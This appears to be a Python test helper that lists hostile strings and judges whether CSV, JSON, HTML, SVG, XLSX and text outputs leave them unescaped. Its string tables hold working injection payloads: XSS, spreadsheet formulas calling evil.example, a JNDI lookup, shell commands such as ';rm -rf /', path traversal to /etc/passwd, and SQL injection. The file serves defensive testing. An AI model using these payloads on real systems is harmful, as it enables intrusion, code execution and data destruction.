# SPDX-License-Identifier: MIT
"""hostile.py -- texts that mean harm somewhere, and what may stand in an output.

    STRINGS                       bytes, each with its kind, at least 200
    wrong(name, data, harmless)   what is unescaped in an output, by its name's end

Outputs are judged by how their readers read them: markup by its elements and
attributes, which must be those that a harmless log gives; tables by their cells as
a spreadsheet takes them; JSON by a strict parser; terminals by their control characters.
"""

import csv
import html.parser
import io
import json
import re
import unicodedata
import xml.etree.ElementTree
import zipfile

KINDS = {
    "markup": r"""
<script>alert(1)</script>
</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<iframe src=javascript:alert(1)>
<a href="javascript:alert(1)">x</a>
<style>*{display:none}</style>
</style><b>x
</title><script>x</script>
</textarea><b>x
<!--
-->
<!-- --!><b>x
<!DOCTYPE html>
<?php phpinfo() ?>
<?xml version="1.0"?>
<%= 7*7 %>
<math><mtext></table><mglyph>
<base href=//evil.example/>
<meta http-equiv=refresh content=0>
<link rel=stylesheet href=//evil.example/>
<object data=x>
<form action=//evil.example/><input>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<table><tr><td>
</td></tr></table>
<ScRiPt>x
<script
<x/y/z>
</section></main></body></html>
<tspan dy=9>x</tspan>
<use href=#x />
<foreignObject><body>x
<!--#include virtual="/etc/passwd" -->
<!--#exec cmd="id" -->
<esi:include src="//evil.example/"/>""",
    "quotes": r"""
"
'
`
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=`alert(1)
"><b>
'><b>
\"
\'
\\
\\"
"""  "\"\"\"" r"""
'''
"";alert(1);//
'-alert(1)-'
';alert(1)//
\u0022
\x22
&quot;
“x”
« x »""",
    "entities": r"""
&lt;script&gt;
&amp;lt;b&amp;gt;
&#60;b&#62;
&#x3c;b&#x3e;
&#0;
&#x202e;
&#xD800;
&nbsp;
&
&;
&&
&lt
&unknown;
]]>
<![CDATA[x]]>
]]><b>x</b>
<!ENTITY x SYSTEM "file:///etc/passwd">
<!DOCTYPE x [<!ENTITY y "z">]>&y;
%3Cscript%3E
%253Cscript%253E
%u003cscript%u003e
+ADw-script+AD4-""",
    "formulas": r"""
=1+1
=cmd|' /C calc'!A0
=HYPERLINK("http://evil.example","x")
=WEBSERVICE("http://evil.example")
=IMPORTXML("http://evil.example","//a")
=DDE("cmd";"/C calc";"x")
+1+1
+cmd|' /C calc'!A0
-1+1
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
;=1+1
,=1+1
";=1+1
",=1+1,"
|=1+1
＝1+1
＋1+1
－1+1
＠SUM(1)
'=1+1
''=1+1
 =1+1
%09=1+1
%0D=1+1
%0A=1+1
=A1
=-1
1E9
0x10
[=1]
{=1+1}
_x000D_
_x0041_
_x005F_x0041_
#REF!
#N/A""",
    "templates": r"""
{{7*7}}
{{constructor.constructor('alert(1)')()}}
${7*7}
${jndi:ldap://evil.example/a}
#{7*7}
<#assign x=1>
{%x%}
{{{x}}}
[[7*7]]
@{7*7}
*{7*7}
~{x}
$(id)
%(x)s
%s%s%s%n
%n%n%n
%1$s
%999999999d
{0}
:x
__import__('os')""",
    "shell and paths": r"""
;id
|id
`id`
$(id)
&&id
||id
;rm -rf /
> /tmp/x
< /etc/passwd
../../../../etc/passwd
..\..\..\windows\win.ini
/etc/passwd%00.html
file:///etc/passwd
//evil.example/
\\evil.example\share
C:\windows
-rf
--help
-o/tmp/x
~root
*
?
CON
NUL
$IFS
\n
\r\n
!!
#x
x=1 id
javascript:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:x""",
    "gnuplot": r"""
'."`id`"
`touch /tmp/x`
@x
$x
{/Symbol a}
{/=99 x}
a^{b}_{c}
&{x}
~a{.8-}
\
\n"; system("id")
"; load "|id
'; !id #
<cat /etc/passwd
|cat
e
EOD
$DATA << EOD
$data <<EOD
set output "/tmp/x"
^b
_b
%%
%h""",
    "SQL": r"""
' OR 1=1 --
'; DROP TABLE day; --
" OR ""="
1;ATTACH DATABASE '/tmp/x' AS x
') UNION SELECT 1 --
%' LIKE '%
\' OR 1=1 --
/* x */
--
?1
:a
0x00
NULL
x'00'""",
    "JSON": r"""
","x":"y
"}],"x":[{"
\u003cb
\ud800
{"__proto__":{"x":1}}
__proto__
constructor
toString
null
true
NaN
1e999
-0
[]
*/alert(1)/*
//x
<!--<script>""",
    "homographs": """
аррӏе.example
раураl.example
gооgle.example
xn--80ak6aa92e.example
ｅｘａｍｐｌｅ.example
example。example
exa\u00admple
Trang\u00a0chủ
T\u0302\u0301
a\u0323\u0302
Å
Ａ
ﬁ
ﷺ
İstanbul
ſcript
Kelvin\u212a
＜script＞
\uff1cb\uff1e
﹤b﹥
ʼ
″
""",
}
# What no editor shows, one a line.
KINDS_UNSEEN = {
    "bidi": ["\u202e%s", "\u202d%s", "\u202a%s", "\u202b%s\u202c",
             "\u2066%s\u2069", "\u2067%s", "\u2068%s", "\u200e%s",
             "\u200f%s", "\u061c%s"],
    "invisible": ["\u200b%s", "\u200c%s", "\u200d%s", "\u2060%s",
                  "\ufeff%s", "\u180e%s", "\u115f%s", "\u3164%s",
                  "\U000e0041%s", "\ufff9%s\ufffb", "\u2028%s", "\u2029%s",
                  "\ufffe%s", "\uffff%s", "\U0001fffe%s", "\u0085%s",
                  "\u00a0=1"],
}
RAW = {
    "terminal": [b"\x1b[31mred", b"\x1b[2J", b"\x1b]0;title\x07",
                 b"\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
                 b"\x1bP+q\x1b\\", b"\x1b[6n", b"\x1bc", b"\x9b31m",
                 b"\xc2\x9b31m", b"\x07", b"\x08\x08\x08", b"\x7f",
                 b"\x0e", b"\x0c", b"\x0b", b"\x1b(0", b"\x1b[?1049h",
                 b"\r overwritten", b"\t=1+1", b"\x90x\x9c", b"\x05"],
    "NUL": [b"\x00", b"a\x00b", b"\x00<b>", b"\x00\x00=1"],
    "ill-formed": [b"\xff", b"\xfe\xff", b"\xc0\xbc", b"\xe0\x80\xbc",
                   b"\xf0\x80\x80\xbc", b"\xc0\xa7", b"\xc0\x80",
                   b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xf4\x90\x80\x80",
                   b"\xf8\x88\x80\x80\x80", b"\xe1\xbb", b"\x80", b"\xbf<",
                   b"\xf0\x9f\x98", b"\xe1\xbb\"", b"\xc3<b>",
                   b"\xa0\xa1<"],
}


def _strings():
    for kind, text in KINDS.items():
        for line in text.split("\n"):
            if line:
                yield kind, line.encode()
    for kind, texts in KINDS_UNSEEN.items():
        for text in texts:
            yield kind, text.replace("%s", "<i>x").encode()
    for kind, texts in RAW.items():
        for text in texts:
            yield kind, text


STRINGS = sorted(set(_strings()), key=lambda s: (s[0], s[1]))

# ---- judges; each gives what is wrong as a list of texts ----


def characters(text, but="\n", where=""):
    """Control, bidirectional and invisible characters, lone surrogates, noncharacters."""
    # Joiners are parts of letters, in Persian and of emoji.
    found = {c for c in text if c not in but + "\u200c\u200d" and (
        unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") or
        ord(c) & 0xfffe == 0xfffe or 0xfdd0 <= ord(c) <= 0xfdef)}
    return ["%sU+%04X in %r" % (where, ord(c), text[max(
        0, text.index(c) - 30):text.index(c) + 30]) for c in sorted(found)]


def utf8(data):
    try:
        return data.decode("utf-8"), []
    except UnicodeDecodeError as e:
        return data.decode("utf-8", "replace"), [str(e)]


# Soft hyphens, joiners and the like are letters' parts for markup and data: only
# what turns or ends the text around it is not.
BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def unsafe(text, but="\n\t\r"):
    """For markup and data, where an invisible character does no harm."""
    found = {c for c in text if c not in but and (
        unicodedata.category(c) in ("Cc", "Cs") or BIDI.match(c))}
    return ["U+%04X in %r" % (ord(c), text[max(
        0, text.index(c) - 30):text.index(c) + 30]) for c in sorted(found)]


def table(data):
    text, bad = utf8(data)
    bad += unsafe(text)
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    for row in rows:
        if len(row) != len(rows[0]):
            bad.append("%d cells instead of %d: %r" % (
                len(row), len(rows[0]), row))
        for cell in row:
            if re.fullmatch(r"-?\d+(\.\d+)?", cell):
                continue
            if re.search(r"(^|[,;\t\r\n|])\s*[=+\-@＝＋－＠]", cell):
                bad.append("a formula: %r" % cell)
    return bad


def value(data):
    text, bad = utf8(data)

    def once(pairs):
        if len({k for k, _ in pairs}) != len(pairs):
            bad.append("a member twice: %r" % pairs)
        return dict(pairs)

    def refuse(name):
        bad.append(name + " is no JSON")

    def walk(v):
        if isinstance(v, str):
            try:
                v.encode()
            except UnicodeEncodeError as e:
                bad.append(str(e))
        for x in (v.values() if isinstance(v, dict) else
                  v if isinstance(v, list) else []):
            walk(x)

    try:
        walk(json.loads(text, object_pairs_hook=once, parse_constant=refuse))
    except ValueError as e:
        bad.append(str(e))
    # It may stand in a script.
    return bad + ["%r stands there" % c for c in "<>&\u2028\u2029"
                  if c in text] + unsafe(text)


class _Shape(html.parser.HTMLParser):
    """Which elements, with which attributes; links; what scripts and styles hold."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.shape, self.links, self.text = set(), [], []
        self.inside, self.code = None, []

    def handle_starttag(self, tag, attributes):
        names = [n for n, _ in attributes]
        for n in names:
            self.shape.add("%s %s" % (tag, n))
        self.shape.add(tag)
        if len(set(names)) != len(names):
            self.shape.add("%s with an attribute twice" % tag)
        for n, v in attributes:
            self.text.append(v or "")
            if n in ("href", "src", "action", "xlink:href"):
                self.links.append(v or "")
        self.inside = tag if tag in ("script", "style") else None

    def handle_endtag(self, tag):
        self.inside = None

    def handle_data(self, data):
        if self.inside:
            self.code.append(data)
        else:
            self.text.append(data)

    def handle_comment(self, data):
        self.shape.add("<!--%s-->" % data[:60])

    def handle_decl(self, data):
        self.shape.add("<!%s>" % data)

    def handle_pi(self, data):
        self.shape.add("<?%s>" % data)

    def unknown_decl(self, data):
        self.shape.add("<![%s]>" % data)


def shape(data):
    s = _Shape()
    s.feed(data.decode("utf-8", "replace"))
    s.close()
    return s


LINK = re.compile(r"(#[\w.-]*|[\w./-]*(\?[\w=&.-]*)?(#[\w.-]*)?"
                  r"|https?://[\w.-]+/?|data:(image|application)/[\w.+-]+;"
                  r"base64,[\w+/=]*)\Z")


def markup(data, harmless):
    text, bad = utf8(data)
    bad += unsafe(text)
    now, then = shape(data), shape(harmless) if harmless else None
    if then:
        bad += ["new markup: %s" % s for s in sorted(now.shape - then.shape)]
        if "".join(then.code) != "".join(now.code) and any(
                "zq" in c for c in now.code):
            bad.append("a script or style has text of the log")
    bad += ["a link: %r" % x for x in now.links if not LINK.match(x)]
    for x in now.text:
        bad += unsafe(x)
    return bad


def picture(data, harmless):
    try:
        xml.etree.ElementTree.fromstring(data)
    except xml.etree.ElementTree.ParseError as e:
        return [str(e)]
    return markup(data, harmless)


def workbook(data):
    bad = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            text = z.read(name)
            if not name.endswith((".xml", ".rels")):
                bad.append("%s is in it" % name)
                continue
            try:
                tree = xml.etree.ElementTree.fromstring(text)
            except xml.etree.ElementTree.ParseError as e:
                bad.append("%s: %s" % (name, e))
                continue
            bad += unsafe(text.decode())
            for e in tree.iter():
                kind = e.tag.rsplit("}", 1)[-1]
                if kind == "f" and "zq" in (e.text or "") and \
                        "/charts/" not in name:
                    bad.append("a formula: %r" % e.text)
                if kind == "Relationship" and \
                        e.get("TargetMode") == "External":
                    bad.append("a link: %r" % e.get("Target"))
                bad += ["an attribute of a log: %r" % v
                        for v in e.attrib.values() if "zq" in v]
    return bad


def zipped(part):
    """A workbook of one part."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("xl/x.xml", part)
    return out.getvalue()


def content(name, data):
    """The bytes that a reader sees."""
    if not name.endswith(".xlsx"):
        return data
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return b"\n".join(z.read(n) for n in z.namelist())


def wrong(name, data, harmless=b""):
    end = name.rsplit(".", 1)[-1].lower()
    if end == "csv":
        return table(data)
    if end == "json":
        return value(data)
    if end in ("html", "htm"):
        return markup(data, harmless)
    if end == "svg":
        return picture(data, harmless)
    if end == "xlsx":
        return workbook(data)
    if end in ("png", "pdf"):
        return []
    if end in ("css", "js"):
        return [] if data == harmless else ["it is not what it always is"]
    text, bad = utf8(data)
    return bad + characters(text, "\n\t" if name == "dump" else "\n")
